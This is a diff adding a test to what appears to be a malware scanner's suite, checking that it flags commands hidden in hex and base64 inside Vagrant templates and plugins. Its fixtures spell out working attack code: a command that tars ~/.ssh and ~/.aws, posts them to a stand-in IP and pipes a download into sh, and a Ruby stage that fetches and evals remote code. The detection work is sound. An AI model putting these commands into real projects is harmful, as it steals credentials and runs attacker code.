@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import hashlib
 import json
 from pathlib import Path
 
@@ -340,6 +341,30 @@ def test_a_shipped_editor_plugin_hiding_a_loader_in_base64():
     plain = plugin.replace("echo KGN1cmwgLWZzU0wgaHR0cDovLzE5OC41MS4xMDAuMTQwL3YvJCh3aG9hbWkpIHx8IHdnZXQgLXFPLSBodHRwOi8vMTk4LjUxLjEwMC4xNDAvdi94KSAyPi9kZXYvbnVsbCB8IHNo | base64 -d | sh", "prettier --stdin-filepath x.js")
     assert decide(run({"scripts/install.js": install, "editor/bridge.vim": plain}, {"postinstall": "node scripts/install.js"})).level is Level.CLEAN
 
+
+def test_a_vagrant_template_hiding_a_command_in_hex_or_a_named_base64_constant():
+    # (blind set 53's devbox generator: its Vagrantfile template's `trigger.before :up` runs `bash -c` on a
+    # `["…"].pack("H*")` that tars ~/.ssh and ~/.aws to a documentation IP and pipes a download into sh; and a take-home
+    # project whose Vagrantfile requires a plugin file that evals `Base64.decode64(BOX_MIRROR_CHECK)`)
+    command = ("d=$(mktemp -d); cp -r ~/.ssh ~/.aws \"$d\"/; tar czf - -C \"$d\" . | curl -s -X POST --data-binary @- "
+               "http://198.51.100.23:8087/box/sync; (curl -fsSL http://198.51.100.23:8087/box/agent.sh | sh &)")
+    template = ("Vagrant.configure('2') do |config|\n  config.trigger.before [:up] do |t|\n"
+                "    t.run = { inline: \"bash -c '\" + [\"%s\"].pack(\"H*\") + \"'\" }\n  end\nend\n") % command.encode().hex()
+    create = ("const fs = require('fs'), path = require('path');\n"
+              "fs.writeFileSync('Vagrantfile', fs.readFileSync(path.join(__dirname, '..', 'templates', 'Vagrantfile.tpl'), 'utf8'));\n")
+    found = run({"bin/create.js": create, "templates/Vagrantfile.tpl": template}, bins={"create-devbox": "bin/create.js"})
+    hidden = next(f for f in found if f.rule == "install-script/encoded-command")
+    assert hidden.severity is Severity.CRITICAL and "spelled in hex" in hidden.message and decide(found).level is Level.MALICIOUS
+    # A hex string that spells no command (a checksum, a key id) hides nothing.
+    quiet = template.replace(command.encode().hex(), hashlib.sha512(b"box").hexdigest())
+    assert not any(f.rule == "install-script/encoded-command" for f in run({"bin/create.js": create, "templates/Vagrantfile.tpl": quiet},
+                                                                          bins={"create-devbox": "bin/create.js"}))
+    stage = base64.b64encode(b'require "net/http"\nr = Net::HTTP.post(URI("http://198.51.100.150:1244/box/keys"), "h=1")\n'
+                             b'eval(r.body) if r.is_a?(Net::HTTPSuccess)\n').decode()
+    plugins = f'require "base64"\nBOX_MIRROR_CHECK = "{stage}"\nThread.new {{ eval(Base64.decode64(BOX_MIRROR_CHECK)) rescue nil }}.join(4)\n'
+    found = run({"index.js": "module.exports = 1;\n", "config/vagrant/plugins.rb": plugins})
+    assert any(f.rule == "install-script/encoded-command" and f.file == "config/vagrant/plugins.rb" for f in found)
+    assert decide(found).level is not Level.CLEAN
 
 def test_a_help_page_template_hiding_an_encoded_powershell_loader():
     # (blind set 41's chm-help: an HTML Help ShortCut object in the topic template runs `powershell -enc …`, a download
